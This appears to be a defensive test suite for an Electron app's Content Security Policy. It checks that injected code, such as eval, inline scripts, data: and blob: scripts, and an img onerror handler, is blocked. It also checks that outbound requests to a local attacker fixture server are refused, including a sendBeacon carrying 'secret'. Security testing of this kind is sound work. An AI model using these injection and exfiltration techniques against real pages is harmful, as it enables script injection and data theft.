import { afterAll, beforeAll, expect, test } from 'vitest';
import { startAttackerServer, type AttackerServer } from '../fixtures/attacker-server.ts';
import { launchApp, type RunningApp } from '../fixtures/launch-app.ts';

let running: RunningApp;
let attacker: AttackerServer;
beforeAll(async () => {
  [running, attacker] = await Promise.all([launchApp(), startAttackerServer()]);
  // What the developer tools' protocol evaluates is above the policy. So each attack is put off to a
  // timer, which runs as the page's own code, and reports what became of it.
  await running.page.evaluate(() => {
    Object.assign(globalThis, {
      attack: (code: () => unknown) =>
        new Promise((resolve) => {
          document.addEventListener(
            'securitypolicyviolation',
            (event) => resolve(event.effectiveDirective),
            { once: true },
          );
          setTimeout(() => {
            try {
              code();
            } catch (error) {
              resolve(error instanceof Error ? error.name : 'thrown');
            }
          }, 0);
        }),
    });
  });
});
afterAll(() => Promise.all([running?.close(), attacker?.close()]));

const owned = () => running.page.evaluate(() => 'owned' in globalThis);

test('text does not become code: eval, Function, timers', async () => {
  const outcomes = await running.page.evaluate(async () => {
    const attack = Reflect.get(globalThis, 'attack');
    return [
      await attack(() => (0, eval)('globalThis.owned = 1')),
      await attack(() => new Function('globalThis.owned = 1')()),
      await attack(() => setTimeout('globalThis.owned = 1', 0)),
    ];
  });
  for (const outcome of outcomes) expect(['EvalError', 'script-src']).toContain(outcome);
  expect(await owned()).toBe(false);
});

test('inline scripts and handlers, data: and blob: scripts do not run', async () => {
  const outcomes = await running.page.evaluate(async () => {
    const attack = Reflect.get(globalThis, 'attack');
    const insertScript = (change: (script: HTMLScriptElement) => void) => () => {
      const script = document.createElement('script');
      change(script);
      document.body.append(script);
    };
    return [
      await attack(insertScript((script) => (script.textContent = 'globalThis.owned = 1'))),
      await attack(
        insertScript((script) => (script.src = 'data:text/javascript,globalThis.owned=1')),
      ),
      await attack(
        insertScript(
          (script) => (script.src = URL.createObjectURL(new Blob(['globalThis.owned = 1']))),
        ),
      ),
      await attack(() =>
        document.body.insertAdjacentHTML('beforeend', '<img src="x:" onerror="owned = 1">'),
      ),
    ];
  });
  for (const outcome of outcomes) expect(outcome).toMatch(/^(script-src|img-src)/);
  expect(await owned()).toBe(false);
});

test('nothing is fetched from outside: scripts, pictures, styles, requests, sockets, workers', async () => {
  const outcomes = await running.page.evaluate(async (base) => {
    const attack = Reflect.get(globalThis, 'attack');
    const insert = (tag: string, attributes: Record<string, string>) => () => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      document.body.append(element);
    };
    return {
      script: await attack(insert('script', { src: `${base}/script` })),
      picture: await attack(insert('img', { src: `${base}/picture` })),
      style: await attack(insert('link', { rel: 'stylesheet', href: `${base}/style` })),
      object: await attack(insert('object', { data: `${base}/object` })),
      request: await attack(() => void fetch(`${base}/fetch`).catch(() => {})),
      beacon: await attack(() => navigator.sendBeacon(`${base}/beacon`, 'secret')),
      socket: await attack(() => new WebSocket(base.replace('http', 'ws'))),
      events: await attack(() => new EventSource(`${base}/events`)),
    };
  }, attacker.url);
  expect(outcomes).toEqual({
    script: 'script-src-elem',
    picture: 'img-src',
    style: 'style-src-elem',
    object: 'object-src',
    request: 'connect-src',
    beacon: 'connect-src',
    socket: 'connect-src',
    events: 'connect-src',
  });
  expect(attacker.hits).toEqual([]);
});

test('what the policy does not reach is cancelled below it', async () => {
  const outcome = await running.app.evaluate(
    ({ session }, url) =>
      session.defaultSession.fetch(url).then(
        () => 'fetched',
        (error: unknown) => String(error),
      ),
    `${attacker.url}/below`,
  );
  expect(outcome).toContain('ERR_BLOCKED_BY_CLIENT');
  expect(attacker.hits).toEqual([]);
});

test('the nonce for styles is new at each load, and no script runs by it', async () => {
  const nonces = await running.page.evaluate(async () => {
    const load = async () =>
      (await fetch('app://lifeboat/index.html')).headers.get('content-security-policy') ?? '';
    return [await load(), await load()].map((policy) => /'nonce-([^']+)'/.exec(policy)?.[1]);
  });
  expect(nonces[0]).toMatch(/^[A-Za-z0-9+/]{24}$/);
  expect(nonces[1]).not.toBe(nonces[0]);
  const outcome = await running.page.evaluate(() => {
    const meta = document.querySelector<HTMLMetaElement>('meta[property="csp-nonce"]');
    const attack = Reflect.get(globalThis, 'attack');
    return attack(() => {
      const script = document.createElement('script');
      script.nonce = meta?.nonce ?? '';
      script.textContent = 'globalThis.owned = 1';
      document.body.append(script);
    });
  });
  expect(outcome).toBe('script-src-elem');
  expect(await owned()).toBe(false);
});
